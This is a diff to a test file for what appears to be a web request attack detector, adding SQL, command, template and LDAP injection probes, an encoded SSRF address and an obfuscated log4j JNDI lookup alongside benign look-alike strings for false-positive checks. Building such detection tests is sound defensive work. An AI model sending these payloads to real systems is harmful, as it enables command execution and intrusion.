@@ -247,9 +247,25 @@ const ATTACKS: [category: string, payload: string][] = [
   ['hpp', "id=1&id=2' OR 1=1--"],
   ['email', "victim@example.com%0ABcc:attacker@evil.example"],
   ['email', "attacker@evil.example\r\nCc: victim@example.com"],
+  // Shapes attack tools send (sqlmap's column count, error-based delimiters and heuristic string; commix's echo
+  // probe; tplmap's Twig and doT probes), written here from how the tools work.
+  ['sqli', "1 ORDER BY 6142"],
+  ['sqli', "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1),0x71),6142)"],
+  ['sqli', "1'\"),(.)(,.\""],
+  ['cmdi', "& whoami"],
+  ['cmdi', ";echo RVJXNI$((31+43))"],
+  ['ssti', "{{['id']|filter('system')}}"],
+  ['ssti', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'],
+  ['ssti', "{{=7*7}}"],
+  ['ssrf', "http://①②⑦.⓪.⓪.①/"],
+  ['cmdi', "nohup bash -c 'id'"],
+  ['cmdi', "x & ipconfig /all"],
+  ['cmdi', "for %f in (c:\\windows\\*) do type %f"],
+  ['ldap', "admin)&(objectClass=*"],
+  ['log4j', "${:-x$}{jndi:ldap://x.example/a}"],
 ];
 
-const EVERYDAY: string[] = ["O'Brien", "Let's select a union rep", "SELECT * is bad practice, said Bob", "drop me a line", "1 + 1 = 2", "rock & roll", "C:\\Users\\bob\\Documents", "../README.md is mentioned in docs", "https://example.com/path?x=1&y=2", "<b>bold</b> text", "I <3 cats", "alert: the server is down", "price < 100 and > 50", "email me at a.b@example.com", "{\"a\":1}", "it's 5 o'clock; time to go", "cat and dog", "the union of sets A and B", "where are you? select one", "javascript is fun", "script kiddies", "onload handler in React", "${HOME} is an env var", "{{ name }} is a template", "ping me", "echo chamber", "wget is a tool", "user@host:~$ ls", "a || b", "x = y && z", "1=1 is true", "SELECT your plan", "--verbose flag", "edit /etc/hosts to add the api entry", "Tom & Jerry; and friends", "O'Reilly's \"book\"", "café — naïve", "emoji 🎉 party", "#hashtag @mention", "100% sure", "50% off!", "semicolon; separated; list", "path/to/file.txt", "grep -r foo .", "function(){ return 1; }", "a<b>c", "1' is a minute", "what's up -- nothing"];
+const EVERYDAY: string[] = ["O'Brien", "Let's select a union rep", "SELECT * is bad practice, said Bob", "drop me a line", "1 + 1 = 2", "rock & roll", "C:\\Users\\bob\\Documents", "../README.md is mentioned in docs", "https://example.com/path?x=1&y=2", "<b>bold</b> text", "I <3 cats", "alert: the server is down", "price < 100 and > 50", "email me at a.b@example.com", "{\"a\":1}", "it's 5 o'clock; time to go", "cat and dog", "the union of sets A and B", "where are you? select one", "javascript is fun", "script kiddies", "onload handler in React", "${HOME} is an env var", "{{ name }} is a template", "ping me", "echo chamber", "wget is a tool", "user@host:~$ ls", "a || b", "x = y && z", "1=1 is true", "SELECT your plan", "--verbose flag", "edit /etc/hosts to add the api entry", "Tom & Jerry; and friends", "O'Reilly's \"book\"", "café — naïve", "emoji 🎉 party", "#hashtag @mention", "100% sure", "50% off!", "semicolon; separated; list", "path/to/file.txt", "grep -r foo .", "function(){ return 1; }", "a<b>c", "1' is a minute", "what's up -- nothing", "tools like ping & nslookup are handy", "in order by 5pm", "choose a size (select 1)", "he said \"it's fine\" (really).", "R&D & hostname changes", "① first, ② second", "sh is a shell", "wget & curl are tools", "for each of us, in (most) cases"];
 
 type Where = 'query' | 'json' | 'cookie';
 function request(where: Where, value: string): InspectionInput {
